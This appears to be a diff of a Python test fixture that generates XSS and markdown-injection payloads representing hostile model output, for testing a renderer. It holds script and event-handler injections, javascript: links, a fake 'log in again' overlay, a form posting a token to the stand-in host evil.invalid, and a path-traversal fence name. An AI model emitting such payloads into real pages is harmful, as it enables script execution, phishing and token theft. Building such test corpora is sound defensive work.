@@ -1,4 +1,4 @@
-"""What a hostile model, or a page that it read aloud, may say: each calls `ran()`, asks evil.invalid, or leads there."""
+"""What a hostile model, or a page that it read, may say: each calls `ran()`, asks evil.invalid, or leads there."""
 
 from __future__ import annotations
 
@@ -6,11 +6,8 @@ import base64
 from urllib.parse import quote
 
 FAR = "http://evil.invalid/x"
-RUN = "ran()"
-EVENTS = (
-    "onerror onload onclick onmouseover onfocus onfocusin ontoggle onpointerenter onanimationstart ontransitionend "
-    "onbegin onbeforetoggle onscrollend oncontentvisibilityautostatechange onpageshow onpopstate"
-).split()
+EVENTS = """onerror onload onclick onmouseover onfocus onfocusin ontoggle onpointerenter onanimationstart onscrollend
+ontransitionend onbegin onbeforetoggle oncontentvisibilityautostatechange onpageshow onpopstate"""
 SCHEMES = (
     "javascript:ran()",
     "JaVaScRiPt:ran()",
@@ -41,7 +38,9 @@ SCHEMES = (
     "?q=1",
     "#app",
 )
-URLS = [text.format(url) for url in SCHEMES for text in ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}\n")]
+URLS = [
+    text.format(url) for url in SCHEMES for text in ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}\n")
+]
 TAGS = [
     "<script>ran()</script>",
     "<script src={}></script>",
@@ -96,7 +95,7 @@ TAGS = [
     "<style>*{{background:url({})}}</style>",
     "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart=ran()></b>",
     "<div style='background:url({})'>x</div>",
-    "<div style=\"position:fixed;inset:0;background:#f00\">log in again</div>",
+    '<div style="position:fixed;inset:0;background:#f00">log in again</div>',
     "<form action={}><input name=token><button>Go</button></form>",
     "<form id=x></form><button form=x formaction=javascript:ran()>x</button>",
     "<input autofocus onfocus=ran()>",
@@ -164,7 +163,7 @@ TAGS = [
     "<img \x00src=x onerror=ran()>",
     "<img src=x onerror=ran()",
     "<<img src=x onerror=ran()>",
-    "\"><img src=x onerror=ran()>",
+    '"><img src=x onerror=ran()>',
     "'><svg onload=ran()>",
     "</code></pre><img src=x onerror=ran()>",
     "</td></tr></table><img src=x onerror=ran()>",
@@ -173,12 +172,12 @@ TAGS = [
     "-->\n<img src=x onerror=ran()>",
 ]
 MARKDOWN = [
-    "[x](http://e.org/\" onclick=\"ran())",
-    "[x](http://e.org \"\\\" onclick=ran() \\\"\")",
+    '[x](http://e.org/" onclick="ran())',
+    '[x](http://e.org "\\" onclick=ran() \\"")',
     "[x](http://e.org/'onclick='ran())",
-    "[a\" onclick=\"ran()](http://e.org)",
-    "![\" onerror=\"ran()](x)",
-    "![x](x\" onerror=\"ran())",
+    '[a" onclick="ran()](http://e.org)',
+    '![" onerror="ran()](x)',
+    '![x](x" onerror="ran())',
     "![x](x 't\" onerror=\"ran()')",
     "![</a><img src=x onerror=ran()>](http://e.org)",
     "![x](http://evil.invalid/x)",
@@ -186,11 +185,11 @@ MARKDOWN = [
     "![x][r]\n\n[r]: http://evil.invalid/x",
     "[<img src=x onerror=ran()>](http://e.org)",
     "[x](<http://e.org/><img src=x onerror=ran()>)",
-    "<http://e.org/\"onmouseover=\"ran()>",
-    "http://e.org/\"onmouseover=\"ran()",
+    '<http://e.org/"onmouseover="ran()>',
+    'http://e.org/"onmouseover="ran()',
     "<javascript:ran()@e.org>",
-    "```\"><img/src/onerror=ran()>\nx\n```",
-    "```js\" onclick=\"ran()\nx\n```",
+    '```"><img/src/onerror=ran()>\nx\n```',
+    '```js" onclick="ran()\nx\n```',
     "~~~</code><script>ran()</script>\nx\n~~~",
     "```html\n<script>ran()</script><img src=x onerror=ran()>\n```",
     "```../../../evil\nx\n```",
@@ -198,14 +197,14 @@ MARKDOWN = [
     "`<img src=x onerror=ran()>`",
     "    <img src=x onerror=ran()>",
     "| <img src=x onerror=ran()> |\n|---|\n| <script>ran()</script> |",
-    "| a |\n|:\"onclick=\"ran():|\n| b |",
+    '| a |\n|:"onclick="ran():|\n| b |',
     "# <img src=x onerror=ran()>",
     "Setext <script>ran()</script>\n===",
     "- [x](javascript:ran())\n- [ ] <input autofocus onfocus=ran()>",
-    "[r]: javascript:ran() \"<img src=x onerror=ran()>\"\n\n[r] ![r]",
+    '[r]: javascript:ran() "<img src=x onerror=ran()>"\n\n[r] ![r]',
     "[__proto__]: javascript:ran()\n\n[__proto__] [constructor] [toString]",
     "\\<img src=x onerror=ran()\\>",
-    "<img src=\"*x*\" onerror=\"ran()\">",
+    '<img src="*x*" onerror="ran()">',
     "**<img src=x** onerror=ran()>",
     "<a\nhref=javascript:ran()>x</a>",
 ]
@@ -235,7 +234,11 @@ TEX = [
 
 ALL = [
     *(text.replace("{}", FAR).replace("{{", "{").replace("}}", "}") for text in TAGS),
-    *(f"<{tag} {event}=ran() autofocus tabindex=0>x</{tag}>" for event in EVENTS for tag in ("img src=x", "svg", "u", "div")),
+    *(
+        f"<{tag} {event}=ran() autofocus tabindex=0>x</{tag}>"
+        for event in EVENTS.split()
+        for tag in ("img src=x", "svg", "u", "div")
+    ),
     *URLS,
     *MARKDOWN,
     *(f"${text}$" for text in TEX),
